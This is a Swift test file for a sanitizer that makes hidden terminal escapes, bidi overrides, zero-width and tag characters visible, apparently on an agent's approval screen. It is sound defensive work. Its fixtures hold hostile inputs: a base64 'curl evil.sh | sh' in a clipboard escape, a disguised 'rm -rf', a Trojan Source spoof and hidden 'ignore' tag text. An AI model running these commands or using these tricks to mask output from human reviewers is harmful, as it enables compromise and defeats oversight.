import Foundation
import Testing
@testable import ApprovalViewModels

@Suite struct SanitizerTests {
    private func shown(_ text: String, _ sanitizer: Sanitizer = .line) -> String {
        sanitizer.sanitize(text).description
    }

    private func badges(_ text: String, _ sanitizer: Sanitizer = .line) -> [String] {
        sanitizer.sanitize(text).runs.filter { $0.role == .untrustedBadge }.map(\.text)
    }

    private func isInert(_ text: SanitizedText) -> Bool {
        text.description.unicodeScalars.allSatisfy { scalar in
            !(scalar.value < 0x20 && scalar != "\n") && !(0x7F...0x9F).contains(scalar.value)
                && Sanitizer.invisibleNames[scalar.value] == nil || scalar.value == 0x200D
        }
    }

    /// Attack finding 4: characters a terminal draws as nothing (soft hyphen, variation selector
    /// after a letter, Hangul filler, Mongolian selector, U+206A) passed the table and list raw,
    /// so `echo\u{FE0F}` looked like `echo`. An emoji's own style selector stays as it is.
    @Test func formatAndDefaultIgnorableCharactersBecomeBadges() {
        #expect(badges("echo\u{FE0F}") == ["⟨U+FE0F⟩"])
        #expect(shown("de\u{00AD}ploy\u{3164}\u{180B}\u{206A}\u{FFF9}") == "de⟨U+00AD⟩ploy⟨U+3164⟩⟨U+180B⟩⟨U+206A⟩⟨U+FFF9⟩")
        #expect(badges("love \u{2764}\u{FE0F}") == [])
        #expect(shown("a\u{E0100}b") == "a⟨U+E0100⟩b")
    }

    @Test func plainTextPassesUnchanged() {
        #expect(shown("deploy_service to prod-eu (v2.3)") == "deploy_service to prod-eu (v2.3)")
        #expect(Sanitizer.line.sanitize("hello").hasBadges == false)
    }

    @Test func invalidUTF8BecomesReplacementCharacters() {
        let text = Sanitizer.line.sanitize(bytes: [0x61, 0xFF, 0x62, 0xC3])
        #expect(text.description == "a\u{FFFD}b\u{FFFD}")
        #expect(Sanitizer.line.sanitize(Data([0x9B, 0x33, 0x31, 0x6D])).description == "\u{FFFD}31m")
    }

    @Test func colourChangingCSIBecomesOneBadge() {
        let text = Sanitizer.line.sanitize("ok\u{1B}[31mRED\u{1B}[0m")
        #expect(text.description == "ok␛[31mRED␛[0m")
        #expect(badges("ok\u{1B}[31mRED\u{1B}[0m") == ["␛[31m", "␛[0m"])
        #expect(isInert(text))
    }

    @Test func cursorMovementAndScreenClearingAreNeutralised() {
        // kubectl CVE-2021-25743: move up and erase to hide earlier output.
        let text = Sanitizer.line.sanitize("safe\u{1B}[1A\u{1B}[2K\u{1B}[2J\u{1B}[Hfake")
        #expect(text.description == "safe␛[1A␛[2K␛[2J␛[Hfake")
        #expect(isInert(text))
    }

    @Test func clipboardWriteIsOneInertBadge() {
        let input = "see\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}done"
        #expect(badges(input) == ["␛]52;c;Y3VybCBldmlsLnN…"])
        #expect(shown(input) == "see␛]52;c;Y3VybCBldmlsLnN…done")
    }

    @Test func windowTitleWithStringTerminatorIsOneBadge() {
        #expect(badges("\u{1B}]0;pwned\u{1B}\\after") == ["␛]0;pwned"])
        #expect(shown("\u{1B}]0;pwned\u{1B}\\after") == "␛]0;pwnedafter")
    }

    @Test func unterminatedOSCSwallowsTheRestAsBadge() {
        #expect(badges("x\u{1B}]8;;http://evil/") == ["␛]8;;http://evil/"])
    }

    @Test func deviceControlAndApplicationStringsAreBadges() {
        #expect(badges("\u{1B}Pq#0;2;0;0;0\u{1B}\\") == ["␛Pq#0;2;0;0;0"])
        #expect(badges("\u{1B}_Gf=100;AAAA\u{1B}\\") == ["␛_Gf=100;AAAA"])
        #expect(badges("\u{1B}^privacy\u{1B}\\") == ["␛^privacy"])
        #expect(badges("\u{1B}Xsos\u{1B}\\") == ["␛Xsos"])
    }

    @Test func eightBitIntroducersAreBadges() {
        #expect(badges("a\u{9B}2Jb") == ["␛[2J"])
        #expect(badges("\u{9D}0;title\u{9C}") == ["␛]0;title"])
        #expect(badges("\u{90}data\u{9C}") == ["␛Pdata"])
    }

    @Test func twoCharacterEscapesAreBadges() {
        #expect(badges("\u{1B}c") == ["␛c"])
        #expect(badges("\u{1B}(B") == ["␛(B"])
        #expect(badges("end\u{1B}") == ["␛"])
    }

    @Test func c0ControlsShowAsControlPictures() {
        let text = Sanitizer.line.sanitize("a\u{0}b\u{7}c\u{8}d\rX")
        #expect(text.description == "a␀b␇c␈d␍X")
        #expect(text.runs.filter { $0.role == .control }.map(\.text) == ["␀", "␇", "␈", "␍"])
    }

    @Test func delAndC1ControlsShowAsEscapes() {
        #expect(shown("a\u{7F}b") == "a␡b")
        #expect(shown("a\u{85}b\u{8D}c") == "a\\x85b\\x8dc")
    }

    @Test func tabsBecomeSpaces() {
        #expect(shown("a\tb") == "a    b")
        #expect(shown("a\tb", Sanitizer(tabWidth: 2)) == "a  b")
    }

    @Test func newlinesStayOnlyWhereAllowed() {
        #expect(shown("one\ntwo", .multiline) == "one\ntwo")
        #expect(shown("one\r\ntwo", .multiline) == "one\ntwo")
        #expect(shown("one\ntwo", .line) == "one␊two")
    }

    @Test func bidiOverridesAndIsolatesAreBadges() {
        // Trojan Source CVE-2021-42574: an RLO/LRI pair reorders what the reader sees.
        let input = "access = \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\""
        #expect(badges(input) == ["⟨RLO⟩", "⟨LRI⟩", "⟨PDI⟩", "⟨LRI⟩"])
        #expect(badges("\u{202A}\u{202B}\u{202C}\u{202D}\u{2067}\u{2068}\u{200E}\u{200F}\u{061C}")
            == ["⟨LRE⟩⟨RLE⟩⟨PDF⟩⟨LRO⟩⟨RLI⟩⟨FSI⟩⟨LRM⟩⟨RLM⟩⟨ALM⟩"])
    }

    @Test func zeroWidthCharactersAreBadges() {
        #expect(badges("rm\u{200B} -rf") == ["⟨ZWSP⟩"])
        #expect(badges("\u{FEFF}x\u{2060}y\u{200C}") == ["⟨BOM⟩", "⟨WJ⟩", "⟨ZWNJ⟩"])
        #expect(badges("a\u{200D}b") == ["⟨ZWJ⟩"])
    }

    @Test func emojiZWJSequencesStayWhole() {
        let family = "👩\u{200D}👩\u{200D}👧"
        #expect(shown(family) == family)
        #expect(shown("🏳\u{FE0F}\u{200D}🌈") == "🏳\u{FE0F}\u{200D}🌈")
    }

    @Test func tagCharactersAreDecodedIntoOneBadge() {
        let hidden = "ok" + String(String.UnicodeScalarView("ignore".unicodeScalars.map { Unicode.Scalar($0.value + 0xE0000)! }))
        #expect(badges(hidden) == ["⟨TAG \"ignore\"⟩"])
    }

    @Test func stackedCombiningMarksAreCappedAndCounted() {
        let zalgo = "Z" + String(repeating: "\u{301}", count: 10) + "a"
        #expect(shown(zalgo) == "Z\u{301}\u{301}\u{301}\u{301}⟨+6 marks⟩a")
        #expect(shown("e\u{301}") == "e\u{301}")
    }

    @Test func lengthIsCappedPerField() {
        let text = Sanitizer(maxLength: 5).sanitize("abcdefghij")
        #expect(text.description == "abcde…+5")
    }

    @Test func interpolationAcceptsSanitizedTextAndNumbers() {
        let name = Sanitizer.line.sanitize("x\u{1B}[2Jy")
        let text: SanitizedText = "tool \(name) · \(3) pending"
        #expect(text.description == "tool x␛[2Jy · 3 pending")
        #expect(text.hasBadges)
    }
}
